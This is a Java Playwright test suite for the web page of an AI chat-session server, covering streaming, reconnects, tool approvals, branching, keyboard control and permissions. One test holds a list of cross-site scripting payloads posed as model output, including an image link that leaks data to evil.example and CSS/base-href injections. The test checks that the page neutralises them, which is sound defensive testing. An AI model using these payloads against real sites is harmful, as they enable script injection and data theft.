package dev.skein.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import dev.skein.session.Scope;
import dev.skein.session.SessionAlias;
import dev.skein.store.NewSession;
import dev.skein.store.file.FileSessionStore;
import dev.skein.testkit.Events;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

/// The page, in a real browser. Skipped where none is installed.
@EnabledIf("dev.skein.server.Chromium#isInstalled")
class PageTest {

    private static Chromium chromium;
    private TestServer server;
    private Chromium.Window window;
    private Page page;

    @BeforeAll
    static void launch() {
        PlaywrightAssertions.setDefaultAssertionTimeout(Chromium.PATIENCE);
        chromium = new Chromium();
    }

    @AfterAll
    static void quit() {
        chromium.close();
    }

    @BeforeEach
    void open() {
        server = new TestServer();
        window = chromium.open();
        page = window.at(server.server.port(), "ann");
    }

    @AfterEach
    void close() {
        window.close();
        server.close();
    }

    @Test
    void a_conversation_streams_and_is_there_after_a_reload() throws Exception {
        page.locator("#prompt").fill("hold gate");
        page.locator("#prompt").press("Control+Enter");
        server.model.awaitArrival("gate");
        sees(".live .message.assistant", "before");

        page.reload();
        sees(".live .message.assistant", "before");
        server.model.open("gate");

        sees(".messages:not(.live) .message.assistant", "before after");
        page.reload();
        sees(".message.user", "hold gate");
        sees(".message.assistant", "before after");
        assertThat(window.complaints).isEmpty();
    }

    @Test
    void the_token_leaves_the_address_and_without_one_the_page_asks() {
        assertThat(page.url()).doesNotContain("token");

        try (var other = chromium.open()) {
            other.page.navigate("http://127.0.0.1:" + server.server.port() + "/");
            other.page.locator("#key").fill("bob");
            other.page.locator("#key").press("Enter");
            other.page.waitForSelector("#search");
            assertThat(other.page.url()).doesNotContain("bob");
        }
    }

    @Test
    void after_the_server_was_away_the_page_goes_on() throws Exception {
        var id = server.client("ann").create("{}");
        openSession(id);
        var port = server.server.port();
        server.server.close();
        page.waitForSelector("#main[data-connection=reconnecting]");
        sees(".net", "Reconnecting");

        try (var again =
                new TestServer(TestServer.OPTIONS.on("127.0.0.1", port), server.store, false, Duration.ofSeconds(30))) {
            page.waitForSelector("#main[data-connection=live]");
            again.client("ann")
                    .post("/v1/sessions/" + id + "/completions", "{\"prompt\":\"still there?\"}")
                    .is(200);
            sees(".message.user", "still there?");
            sees(".message.assistant", "You said: still there?");
        }
    }

    @Test
    void what_others_do_shows_without_asking() {
        var ann = server.client("ann");
        var id = ann.create("{\"alias\":\"elsewhere\"}");
        page.locator(".session[data-session='" + id + "']").click();
        page.waitForSelector("#main[data-connection=live]");

        ann.post("/v1/sessions/" + id + "/completions", "{\"prompt\":\"look 3\"}")
                .is(200);

        sees(".message.assistant", "done: look of 3");
        page.locator(".tool-call summary").click();
        sees(".tool-call", "look of 3");
        assertThat(window.complaints).isEmpty();
    }

    @Test
    void what_another_process_writes_into_the_same_home_shows_too(@TempDir Path home) {
        var scope = Scope.ofOwner("ann");
        try (var ours = FileSessionStore.open(home);
                var theirs = FileSessionStore.open(home);
                var onFiles = new TestServer(TestServer.OPTIONS, ours, false, Duration.ofSeconds(30))) {
            page.navigate("about:blank");
            window.at(onFiles.server.port(), "ann");
            try (var session = theirs.create(NewSession.in(scope).named(new SessionAlias("typed")))) {
                page.locator(".session", having("typed")).click();
                page.waitForSelector("#main[data-connection=live]");

                session.append(new Events(Clock.systemUTC(), 3).exchange(null, "from a terminal", "seen on the page"));

                sees(".message.user", "from a terminal");
                sees(".message.assistant", "seen on the page");
            }
        }
    }

    @Test
    void an_approval_is_answered_in_place_and_the_run_goes_on() {
        say("act 7");
        sees(".approval", "\"value\": \"7\"");

        page.locator(".approval button", having("Allow")).click();

        sees(".message.assistant", "done: act of 7");
        counts(".approval", 0);
        say("act 8");
        page.locator(".approval button", having("Deny")).click();
        sees(".tool-call .state", "failed");
        assertThat(window.complaints).isEmpty();
    }

    @Test
    void a_run_can_be_stopped_and_continued() throws Exception {
        say("hold forever");
        server.model.awaitArrival("forever");
        page.locator("button", having("Stop")).click();
        sees(".end-of-talk", "ended early");

        server.model.open("forever");
        page.locator("button", having("Continue")).click();

        sees(".messages:not(.live) .message.assistant", "before after");
    }

    @Test
    void branches_are_drawn_read_and_compared_and_what_they_cost_is_charted() {
        say("first question");
        sees(".message.assistant", "You said: first question");
        page.locator("button", having("Undo")).click();
        counts(".message", 0);
        say("second question");
        sees(".message.assistant", "You said: second question");

        tab("Tree");
        counts(".graph circle", 2);
        page.locator(".loop", having("first question")).click();
        sees(".message.assistant", "You said: first question");
        sees(".end-of-talk", "not where the conversation goes on");
        tab("Compare");
        sees(".columns", "You said: first question");
        sees(".columns", "You said: second question");
        tab("Usage");
        counts(".plot .bar.input", 2);
        counts(".plot .line", 1);
        tab("Timeline");
        sees(".event.finished", "completed");
        assertThat(window.complaints).isEmpty();
    }

    @Test
    void a_session_is_renamed_forked_and_deleted() {
        say("hello");
        sees(".message.assistant", "You said: hello");
        page.locator("button", having("Rename")).click();
        page.locator("dialog input").fill("greeting");
        page.locator("dialog input").press("Enter");
        sees(".session-title", "greeting");

        page.locator("button", having("Fork")).click();
        page.locator("dialog input").fill("second-greeting");
        page.locator("dialog input").press("Enter");
        sees(".session-title", "second-greeting");
        sees(".message.assistant", "You said: hello");

        page.locator(".actions button", having("Delete")).click();
        page.locator("dialog button.danger").click();
        counts(".session", 1);
        assertThat(server.client("ann")
                        .get("/v1/sessions")
                        .json()
                        .path("sessions")
                        .size())
                .isEqualTo(1);
    }

    @Test
    void what_a_model_says_does_nothing() {
        server.model.stage.put("attack", "say " + String.join("\n\n", HOSTILE));
        say("attack");
        sees(".messages:not(.live) .message.assistant", "the end");
        page.reload();
        sees(".message.assistant", "the end");

        assertThat(page.evaluate("window.pwned === undefined")).isEqualTo(true);
        assertThat(page.locator(".markdown script, .markdown svg, .markdown img, .markdown iframe, .markdown style")
                        .count())
                .isZero();
        assertThat(page.locator(".markdown a")
                        .evaluateAll("all => all.every(a => /^https?:$/.test(a.protocol)"
                                + " && a.rel.includes('noopener') && a.rel.includes('noreferrer'))"))
                .isEqualTo(true);
        assertThat(page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"))
                .isEqualTo(true);
        assertThat(window.requests).allMatch(url -> url.startsWith("http://127.0.0.1:" + server.server.port() + "/"));
        assertThat(window.dialogs).isEmpty();
        assertThat(window.complaints).isEmpty();
    }

    private static final List<String> HOSTILE = List.of(
            "<script>window.pwned = 1; alert(1)</script>",
            "<svg onload=\"window.pwned = 1\"><animate onbegin=alert(1) attributeName=x></svg>",
            "<img src=x onerror=\"window.pwned = 1\"> <iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
            "![secret](https://evil.example/leak?data=secret) ![x](javascript:alert(1)) ![y](data:image/svg+xml,x)",
            "[a](javascript:window.pwned=1) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>1</script>)",
            "[d](https://example.org/a?b=\"onmouseover=alert(1)) [e](/v1/sessions) [f](vbscript:x) [g](//evil.example)",
            "<style>@import 'https://evil.example/x.css'; * { display: none }</style><base href=//evil.example>",
            "| <b onclick=alert(1)>a | b |\n| --- | --- |\n| <script>alert(2)</script> | c |",
            "```html\n</code></pre><script>window.pwned = 1</script>\n```",
            "`</code><script>window.pwned = 1</script>` **<u onclick=alert(1)>** https://example.org/<script>",
            "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
            "x".repeat(20_000),
            "[".repeat(20_000) + "(".repeat(5_000) + "*".repeat(5_000) + "`".repeat(999) + "> ".repeat(500),
            "the end");

    @Test
    void everything_can_be_done_with_keys() {
        var ann = server.client("ann");
        ann.create("{\"alias\":\"apples\"}");
        ann.create("{\"alias\":\"pears\"}");
        counts(".session", 2);
        page.locator("body").press("n");
        page.keyboard().type("typed by hand");
        page.keyboard().press("Control+Enter");
        sees(".message.assistant", "You said: typed by hand");

        page.locator("#prompt").press("Escape");
        page.keyboard().press("/");
        page.keyboard().type("pears");
        counts(".session", 1);
        page.keyboard().press("Escape");
        page.keyboard().press("k");
        page.keyboard().press("j");
        page.keyboard().press("Enter");
        sees(".session-title", "pears");
        page.keyboard().press("2");
        sees(".panel", "No loops yet");
        page.keyboard().press("1");
        sees(".panel", "Nothing was said yet");
        page.keyboard().press("?");
        sees("dialog", "previous session");
        page.keyboard().press("Escape");
        counts("dialog", 0);
    }

    @Test
    void a_long_session_shows_its_newest_and_older_on_demand() {
        var events = new Events(Clock.systemUTC(), 7);
        try (var session = server.store.create(NewSession.in(Scope.ofOwner("ann")))) {
            for (int i = 0; i < 5_000; i++) {
                session.append(events.exchange(session.state().head(), "question " + i, "answer " + i));
            }
            openSession(session.id().toString());
        }
        sees(".message.assistant", "answer 4999");
        assertThat(page.locator(".message").count()).isLessThan(500);
        var shown = page.locator(".message").count();

        page.locator(".panel").evaluate("panel => { panel.scrollTop = 0; }");

        page.waitForCondition(() -> page.locator(".message").count() > shown);
        assertThat(page.locator(".message").count()).isLessThan(2_000);
        tab("Tree");
        sees(".tree-view", "older loops not drawn");
        tab("Usage");
        assertThat(page.locator(".plot .bar.input").count()).isLessThanOrEqualTo(80);
    }

    @Test
    void who_may_only_read_is_told_so_where_they_wrote() {
        try (var reader = chromium.open()) {
            var other = reader.at(server.server.port(), "reader");
            other.locator("#prompt").fill("hello");
            other.locator("#prompt").press("Control+Enter");

            PlaywrightAssertions.assertThat(other.locator(".problem:visible")).containsText("write:sessions");
            PlaywrightAssertions.assertThat(other.locator("#prompt")).hasValue("hello");
        }
    }

    private Page.LocatorOptions having(String text) {
        return new Page.LocatorOptions().setHasText(text);
    }

    private void say(String words) {
        page.locator("#prompt").fill(words);
        page.locator("#prompt").press("Control+Enter");
        sees(".message.user", words);
    }

    private void openSession(String id) {
        page.evaluate("id => { location.hash = '#/s/' + id; }", id);
        page.waitForSelector("#main[data-connection=live]");
    }

    private void tab(String name) {
        page.locator(".tab", having(name)).click();
        page.waitForSelector(".panel[aria-label=" + name + "]");
    }

    /// Waits until there are so many.
    private void counts(String selector, int number) {
        page.waitForCondition(() -> page.locator(selector).count() == number);
    }

    private void sees(String selector, String text) {
        try {
            PlaywrightAssertions.assertThat(page.locator(selector).last())
                    .containsText(text, new LocatorAssertions.ContainsTextOptions().setTimeout(Chromium.PATIENCE));
        } catch (AssertionError e) {
            throw new AssertionError("the page says: " + page.locator("#main").innerText(), e);
        }
    }
}
